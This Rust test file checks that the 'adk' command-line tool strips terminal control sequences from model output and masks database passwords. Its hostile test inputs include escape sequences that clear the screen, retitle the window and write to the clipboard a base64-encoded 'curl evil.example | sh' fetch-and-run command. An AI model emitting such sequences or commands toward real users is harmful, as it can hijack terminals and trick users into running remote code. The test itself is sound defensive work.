//! The `adk` terminal shows what models and tools say, so it must not let them drive the terminal,
//! and it must not print a database password (review finding 20).

mod support;

use adk_test::{MockResponse, MockServer};
use serde_json::json;
use support::adk;

/// A streamed Chat Completions answer made of `deltas`.
fn streamed(deltas: &[&str]) -> MockResponse {
    let mut body = String::new();
    for delta in deltas {
        let chunk =
            json!({"choices": [{"index": 0, "delta": {"content": delta}, "finish_reason": null}]});
        body.push_str(&format!("data: {chunk}\n\n"));
    }
    let last = json!({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]});
    body.push_str(&format!("data: {last}\n\ndata: [DONE]\n\n"));
    MockResponse::sse(&body)
}

/// A whole Chat Completions answer saying `text`.
fn whole(text: &str) -> MockResponse {
    MockResponse::json(
        200,
        &json!({"choices": [{"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": "stop"}]}),
    )
}

/// Whether `text` holds a character that starts terminal control.
fn holds_terminal_control(text: &str) -> bool {
    text.chars()
        .any(|c| c.is_control() && c != '\n' && c != '\t')
}

#[tokio::test]
async fn review_20_model_text_cannot_drive_the_terminal() {
    // A clipboard write (OSC 52), a screen clear, a cursor move, a window title and a C1 CSI.
    let hostile = [
        "Hello \u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}",
        "\u{1b}[2J\u{1b}[1;1Hworld\u{1b}]0;pwned\u{1b}\\",
        "\u{9b}2K!",
    ];
    let server = MockServer::start([
        streamed(&hostile),
        whole(&hostile.concat()),
        // Not an answer at all: the error that quotes it is printed too.
        MockResponse::new(200, hostile.concat()),
    ])
    .await;
    for args in [
        &["run", "quickstart", "--in-memory"][..],
        &["run", "quickstart", "--in-memory", "--no-stream"],
    ] {
        let (_, stdout, stderr) = adk(Some(&server), args, "Hi\n\n").await;
        assert!(
            stdout.contains("Hello world!"),
            "stdout:\n{stdout}\nstderr:\n{stderr}"
        );
        assert!(!holds_terminal_control(&stdout), "{stdout:?}");
    }
    let (_, _, stderr) = adk(
        Some(&server),
        &["run", "quickstart", "--in-memory", "--no-stream"],
        "Hi\n\n",
    )
    .await;
    assert!(
        stderr.contains("could not read a Chat Completions answer"),
        "{stderr}"
    );
    assert!(!holds_terminal_control(&stderr), "{stderr:?}");
}

#[tokio::test]
async fn review_20_a_password_holding_at_signs_is_not_printed() {
    let server = MockServer::start([]).await;
    let (_, stdout, stderr) = adk(
        Some(&server),
        // A scheme the command line refuses at once, naming the URL it was given.
        &[
            "run",
            "quickstart",
            "--database-url",
            "mysql://adk:p@ss@127.0.0.1:1/adk",
        ],
        "",
    )
    .await;
    let printed = format!("{stdout}{stderr}");
    assert!(
        printed.contains("mysql://adk:***@127.0.0.1:1/adk"),
        "{printed}"
    );
    assert!(!printed.contains("ss@"), "{printed}");
}
